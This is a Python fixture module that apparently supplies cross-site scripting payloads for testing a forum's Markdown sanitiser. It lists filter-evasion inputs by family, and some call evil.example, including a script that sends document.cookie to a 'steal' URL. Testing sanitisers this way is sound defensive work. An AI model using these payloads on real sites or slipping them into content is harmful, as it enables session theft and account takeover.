"""Cross-site scripting payloads for forum.content.render_markdown.

Written for this project, family by family after the OWASP XSS Filter Evasion Cheat Sheet,
plus Markdown's own routes in: links, references, autolinks, images and titles. Every
payload that would run script calls ``alert``/``confirm``/``prompt`` or loads something
from ``evil.example``, so the browser test (tests/e2e/test_xss_in_browser.py) sees it if
it ever gets through. A Python list rather than a text file so that payloads may hold
newlines, tabs, NUL bytes and lone surrogates.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '<SCRIPT SRC="http://evil.example/xss.js"></SCRIPT>',
    "<script/src=data:,alert(1)></script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script>alert(1)",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    '<script>document.write("<img src=x onerror=alert(1)>")</script>',
    "<script>fetch('//evil.example/steal?c='+document.cookie)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=# onmouseover=\"alert('xss')\">",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<p onclick=alert(1)>an allowed tag</p>",
    "<strong onmouseover=alert(1)>an allowed tag</strong>",
    '<a href="http://ok.example/" onclick="alert(1)">ok</a>',
    "<h1 onmouseover=alert(1)>heading</h1>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<p style="animation-name:spin" onanimationstart=alert(1)>x</p>',
    "<table><td onclick=alert(1)>cell</td></table>",
    '<blockquote cite="javascript:alert(1)" onclick="alert(1)">q</blockquote>',
    "<b onmouseover=alert(1)>click me</b>",
    "<frameset onload=alert(1)>",
    '<img """><script>alert(1)</script>">',
]

MARKDOWN_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#x0A;ascript:alert(1))",
    "[x](jav\tascript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](javascript:alert(1)//http://ok.example)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    '[x](http://ok.example/"onclick="alert(1))',
    "[**bold** x](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x][r]\n\n[r]: JAVASCRIPT:alert(1) "title"',
    "[x][d]\n\n[d]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<javascript://%0Aalert(1)>",
    "<vbscript://msgbox(1)>",
    "<data://text/html,<script>alert(1)</script>>",
    '<http://ok.example/"onmouseover="alert(1)>',
    "[x](http://ok.example)<img src=x onerror=alert(1)>",
]

LINK_TITLES = [
    '[a](http://ok.example "\\" onmouseover=alert(1)")',
    "[a](http://ok.example 'x\\' onmouseover=alert(1)')",
    '[a](http://ok.example "x" onmouseover="alert(1)")',
    '[a](http://ok.example (a" onclick="alert(1)))',
    '[a](http://ok.example "<script>alert(1)</script>")',
    '[a][r]\n\n[r]: http://ok.example "\\" onclick=alert(1) x=\\""',
    '[a](http://ok.example "x\nonmouseover=alert(1)")',
]

IMAGES = [
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '![x" onerror="alert(1)](http://ok.example/i.png)',
    "![<img src=x onerror=alert(1)>](http://ok.example/i.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](//evil.example/beacon.png)",
    "[![x](//evil.example/i.png)](javascript:alert(1))",
    "![x][i]\n\n[i]: //evil.example/i.png",
]

DATA_AND_EMBEDS = [
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<img srcset="//evil.example/x.png 1x">',
    "<video poster=javascript:alert(1)></video>",
    "<link rel=import href=//evil.example/x.html>",
    "<portal src=//evil.example/></portal>",
    '<a href="https://ok.example/" ping="//evil.example/ping">x</a>',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x />",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
]

BROKEN_TAGS = [
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)//",
    '<a href="javascript:alert(1)',
    '<img src="x\nonerror=alert(1)>',
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1) <",
    "<iframe src=javascript:alert(1)",
    "<</p>img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    "<a\nhref\n=\njavascript:alert(1)>x</a>",
    "<img src=`x` onerror=`alert(1)`>",
]

CSS = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1));">x</div>',
    '<span style="x:expr/**/ession(alert(1))">x</span>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<p style="behavior: url(//evil.example/x.htc)">x</p>',
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<p style="background-image:url(//evil.example/x.png)">x</p>',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</UL>',
]

COMMENTS_AND_DECLARATIONS = [
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? echo('<script>alert(1)</script>'); ?>",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<!--><svg onload=alert(1)>-->",
]

NESTED_MARKDOWN_AND_HTML = [
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>\n- [x](javascript:alert(1))",
    "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "# <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](http://ok.example)",
    '*<a href="javascript:alert(1)">x</a>*',
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "\\<script>alert(1)\\</script>",
    "<details>\n\n[x](javascript:alert(1))\n\n</details>",
    "1. <iframe src=//evil.example/>\n2. two",
    "> > > <script>alert(1)</script>",
    "Title\n=====<script>alert(1)</script>",
    "<http://ok.example/<script>alert(1)</script>>",
    'www.ok.example/"><script>alert(1)</script>',
    'me@ok.example"><img src=x onerror=alert(1)>',
    '<a@ok.example"><img src=x onerror=alert(1)>>',
    "http://ok.example/?q=<svg/onload=alert(1)>",
]

UNICODE_AND_CONTROL = [
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<img src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "[x](javascript\u2028:alert(1))",
    "[x](\x01javascript:alert(1))",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03[x](javascript:alert(1))",
]

DOCUMENT_LEVEL = [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<base href="javascript:alert(1)//">',
    "<base href=//evil.example/>[x](relative)",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    '<a target="_blank" href="http://ok.example/">opens a tab</a>',
    '<a rel="opener" href="http://ok.example/">x</a>',
    '<a href="http://ok.example/" id="x" name="y" class="evil" style="position:fixed">x</a>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *MARKDOWN_LINKS,
    *LINK_TITLES,
    *IMAGES,
    *DATA_AND_EMBEDS,
    *SVG_AND_MATHML,
    *ENTITIES,
    *BROKEN_TAGS,
    *CSS,
    *COMMENTS_AND_DECLARATIONS,
    *NESTED_MARKDOWN_AND_HTML,
    *UNICODE_AND_CONTROL,
    *DOCUMENT_LEVEL,
]
